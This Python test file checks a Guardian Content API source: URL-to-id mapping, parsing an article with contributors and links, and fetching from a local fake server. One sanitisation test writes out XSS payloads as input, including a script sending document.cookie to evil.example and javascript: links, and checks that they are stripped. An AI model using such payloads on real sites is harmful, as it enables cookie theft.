"""The Guardian: URLs ► Content API ids, a recorded single-item answer ► an article with its
contributors and links (pure), and fetching from a fake Content API on 127.0.0.1."""

import copy
import json
from pathlib import Path

import pytest

from eventarchive.http import AuthError, FetchError, Http, HttpSettings
from eventarchive.records import Author, Batch, Item, Link, Problem
from eventarchive.sources import guardian, web

FIXTURES = Path(__file__).parent / "fixtures" / "guardian"
CID = "local-government-network/2011/oct/24/lambeth-co-op-day-world-cafe"
ITEM_ID = f"guardian:{CID}"
KEY = "a3c0e9d2-1b7f-4c55-9e0a-6f2d8b41c7e3"


def load(name):
    return json.loads((FIXTURES / name).read_text())


def parsed(data):
    batch = Batch()
    item_id = guardian.parse_content(data, batch)
    return item_id, batch


@pytest.fixture
def http():
    with Http(HttpSettings(backoff=0), sleep=lambda s: None, secrets=[KEY]) as client:
        yield client


# -- URLs -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [
    "http://www.guardian.co.uk/local-government-network/2011/oct/24/lambeth-co-operative-council"
    "-leadership",
    "https://www.theguardian.com/local-government-network/2011/oct/24/lambeth-co-operative-"
    "council-leadership",
    "http://guardian.co.uk/local-government-network/2011/oct/24/lambeth-co-operative-council-"
    "leadership?INTCMP=SRCH#start-of-comments",
    "http://m.guardian.co.uk/local-government-network/2011/oct/24/lambeth-co-operative-council-"
    "leadership/print",
    "https://amp.theguardian.com/local-government-network/2011/oct/24/lambeth-co-operative-"
    "council-leadership/",
])
def test_old_and_new_guardian_urls_map_to_the_same_content_id(url):
    assert guardian.is_guardian(url)
    assert guardian.content_id(url) == (
        "local-government-network/2011/oct/24/lambeth-co-operative-council-leadership")


@pytest.mark.parametrize("url", [
    "https://www.theguardian.com/",  # the front page has no content id
    "https://jobs.theguardian.com/job/123/",  # another site under the same domain
    "https://profile.theguardian.com/user/id/1",
    "https://notguardian.co.uk/society/2011/oct/24/x",
    "https://www.theguardian.com.evil.example/society/2011/oct/24/x",
    "ftp://www.guardian.co.uk/society/2011/oct/24/x",
    "not a url",
])
def test_other_urls_are_not_guardian_content(url):
    assert not guardian.is_guardian(url)
    with pytest.raises(ValueError):
        guardian.content_id(url)


def test_api_url_is_the_base_plus_the_id():
    assert guardian.api_url("http://www.guardian.co.uk/society/2011/oct/24/x?CMP=twt_gu") == (
        "https://content.guardianapis.com/society/2011/oct/24/x")
    assert guardian.api_url("https://www.theguardian.com/uk", "http://127.0.0.1:5/") == (
        "http://127.0.0.1:5/uk")


# -- parsing --------------------------------------------------------------------------------------


def test_article_with_two_contributors():
    data = load("content-world-cafe.json")
    item_id, batch = parsed(data)
    assert item_id == ITEM_ID
    [item] = batch.items
    assert item == Item(
        id=ITEM_ID, kind="article", platform="guardian", native_id=CID,
        url=f"https://www.theguardian.com/{CID}", author_id="guardian:profile/sam-notetaker",
        published_at="2011-10-24T10:30:00+00:00",
        title="Lambeth Co-op Day: what a world cafe taught a co-operative council",
        text=item.text, html=item.html, raw=item.raw,
    )
    assert item.text.startswith(
        "Lambeth's co-operative council held its first Lambeth Co-op Day on Friday, bringing "
        "residents, council staff and local groups together")
    assert ("The questions were:\n\nWhat does a good neighbourhood service feel like?\n"
            "What would you run yourselves, given the chance?\nWhat gets in the way?\n\n"
            '"We spent an hour on the library') in item.text
    assert "\n\nWorld cafe\n\n" in item.text
    assert "<" not in item.text
    assert item.html.startswith("<p>Lambeth's co-operative council held its first "
                                "<strong>Lambeth Co-op Day</strong>")
    assert '<a href="http://sfy.co/b3Xq" rel="noopener noreferrer">' in item.html
    assert json.loads(item.raw) == data["response"]["content"]  # the payload is kept whole
    assert batch.authors == [
        Author("guardian:profile/sam-notetaker", "guardian", "sam-notetaker", "Sam Notetaker",
               "https://www.theguardian.com/profile/sam-notetaker",
               "https://static.guim.co.uk/sys-images/Guardian/Pix/contributor/2011/10/20/"
               "1319107200000/Sam-Notetaker.jpg"),
        Author("guardian:profile/priya-coop", "guardian", "priya-coop", "Priya Coop",
               "https://www.theguardian.com/profile/priya-coop", None),
    ]
    assert batch.links == [
        Link(ITEM_ID, "http://www.guardian.co.uk/local-government-network/2011/oct/10/"
                      "co-operative-council-one-year-on"),
        Link(ITEM_ID, "http://lambethcoop.example.org/2011/10/world-cafe-notes/"),
        Link(ITEM_ID, "http://sfy.co/b3Xq"),
        Link(ITEM_ID, "http://www.guardian.co.uk/local-government-network"),
    ]


def test_a_guest_post_without_contributor_tags_is_credited_to_its_byline():
    data = load("content-world-cafe.json")
    content = data["response"]["content"]
    content["tags"] = []
    content["fields"]["byline"] = 'Cllr <a href="https://example.org/">Jo Cafehost</a>'
    _, batch = parsed(data)
    assert batch.authors == [Author("guardian:byline:cllr-jo-cafehost", "guardian",
                                    display_name="Cllr Jo Cafehost")]
    assert batch.items[0].author_id == "guardian:byline:cllr-jo-cafehost"


def test_missing_fields_fall_back_to_web_title_and_first_publication_date():
    data = load("content-world-cafe.json")
    content = data["response"]["content"]
    del content["webPublicationDate"], content["fields"]["headline"], content["fields"]["body"]
    content["tags"] = []
    del content["fields"]["byline"]
    _, batch = parsed(data)
    [item] = batch.items
    assert (item.title, item.published_at, item.author_id, item.html) == (
        "Lambeth Co-op Day: what a world cafe taught a co-operative council",
        "2011-10-24T10:30:00+00:00", None, None)
    assert item.text.startswith("Residents and staff spent a day")  # the trail text
    assert batch.links == [] and batch.authors == []


def test_hostile_html_in_the_body_and_headline_comes_out_sanitised():
    data = load("content-world-cafe.json")
    fields = data["response"]["content"]["fields"]
    fields["headline"] = "Co-op Day<script>alert('headline')</script>"
    fields["body"] = (
        '<p onclick="steal()">Hello <script>document.location="https://evil.example/?"'
        '+document.cookie</script>neighbours.</p>'
        '<p><img src="x" onerror="alert(1)"> <a href="javascript:alert(2)">click</a> '
        '<a href="JaVaScRiPt:alert(3)">again</a> '
        '<iframe src="https://evil.example/frame"></iframe>'
        '<a href="/local-government-network/2011/oct/10/earlier">earlier</a> '
        '<style>body{display:none}</style><a href="data:text/html,<b>x</b>">data</a></p>')
    _, batch = parsed(data)
    [item] = batch.items
    for bad in ("<script", "onclick", "onerror", "javascript:", "JaVaScRiPt", "<iframe",
                "<style", "data:text", "steal", "document.cookie"):
        assert bad not in item.html, bad
    assert item.title == "Co-op Day"
    assert "alert" not in item.text and "cookie" not in item.text and "display" not in item.text
    assert item.text == "Hello neighbours.\n\nclick again earlier data"
    # Only web links are kept; a site-relative one is made absolute against the article.
    assert batch.links == [Link(ITEM_ID, "https://www.theguardian.com/local-government-network/"
                                         "2011/oct/10/earlier")]


def test_an_answer_without_content_is_a_problem_not_a_crash():
    batch = Batch()
    batch.attempt("guardian:x", guardian.parse_content,
                  load("section-local-government-network.json"), batch)
    batch.attempt("guardian:y", guardian.parse_content, load("error-not-found.json"), batch)
    batch.attempt("guardian:z", guardian.parse_content, {"nothing": 1}, batch)
    assert batch.items == []
    assert [p.where for p in batch.problems] == ["guardian:x", "guardian:y", "guardian:z"]
    assert "section or tag page" in batch.problems[0].reason
    assert "The requested resource could not be found." in batch.problems[1].reason


# -- fetching -------------------------------------------------------------------------------------


def expected_query(key=KEY):
    return {"api-key": key, "show-fields": guardian.FIELDS, "show-tags": "contributor"}


def test_fetch_article_asks_the_content_api_for_the_old_urls_path(httpserver, http):
    httpserver.expect_request(f"/{CID}", query_string=expected_query()).respond_with_json(
        load("content-world-cafe.json"))
    batch = guardian.fetch_article(
        http, f"http://www.guardian.co.uk/{CID}?CMP=twt_gu", httpserver.url_for("/"), KEY)
    assert [i.id for i in batch.items] == [ITEM_ID]
    assert len(batch.links) == 4 and len(batch.authors) == 2 and batch.problems == []


def test_the_shared_test_key_is_the_default(httpserver, http):
    httpserver.expect_request(f"/{CID}", query_string=expected_query("test")).respond_with_json(
        load("content-world-cafe.json"))
    batch = guardian.fetch_article(http, f"https://www.theguardian.com/{CID}",
                                   httpserver.url_for(""))
    assert [i.id for i in batch.items] == [ITEM_ID]


def test_a_404_is_not_an_article_so_the_caller_fetches_the_page(httpserver, http):
    httpserver.expect_request("/society/2011/oct/24/gone").respond_with_json(
        load("error-not-found.json"), status=404)
    with pytest.raises(guardian.NotAnArticle) as caught:
        guardian.fetch_article(http, "http://www.guardian.co.uk/society/2011/oct/24/gone",
                               httpserver.url_for(""), KEY)
    assert isinstance(caught.value, FetchError) and caught.value.status == 404
    assert "fetch http://www.guardian.co.uk/society/2011/oct/24/gone as a web page" in str(
        caught.value)


def test_a_section_page_or_a_gallery_is_not_an_article(httpserver, http):
    httpserver.expect_request("/local-government-network").respond_with_json(
        load("section-local-government-network.json"))
    gallery = load("content-world-cafe.json")
    gallery["response"]["content"]["type"] = "gallery"
    httpserver.expect_request("/g/2011/oct/21/pictures").respond_with_json(gallery)
    base = httpserver.url_for("")
    with pytest.raises(guardian.NotAnArticle, match="section or tag page"):
        guardian.fetch_article(http, "http://www.guardian.co.uk/local-government-network", base)
    with pytest.raises(guardian.NotAnArticle, match="is a gallery"):
        guardian.fetch_article(http, "https://www.theguardian.com/g/2011/oct/21/pictures", base)


def test_a_refused_key_says_which_variable_to_check_and_never_shows_the_key(httpserver, http):
    httpserver.expect_request(f"/{CID}").respond_with_json(
        {"message": "Unauthorized"}, status=401)
    with pytest.raises(AuthError) as caught:
        guardian.fetch_article(http, f"https://www.theguardian.com/{CID}",
                               httpserver.url_for(""), KEY)
    assert not isinstance(caught.value, guardian.NotAnArticle)
    assert guardian.KEY_ENV in str(caught.value) and KEY not in str(caught.value)
    assert web.SOURCE.secrets == ("EVENTARCHIVE_GUARDIAN_KEY",)


def test_a_body_of_an_unexpected_shape_becomes_a_problem(httpserver, http):
    broken = copy.deepcopy(load("content-world-cafe.json"))
    del broken["response"]["content"]["id"]
    httpserver.expect_request(f"/{CID}").respond_with_json(broken)
    url = f"https://www.theguardian.com/{CID}"
    batch = guardian.fetch_article(http, url, httpserver.url_for(""), KEY)
    assert batch.items == [] and batch.problems == [
        Problem(url, "unexpected shape (KeyError: 'id')")]
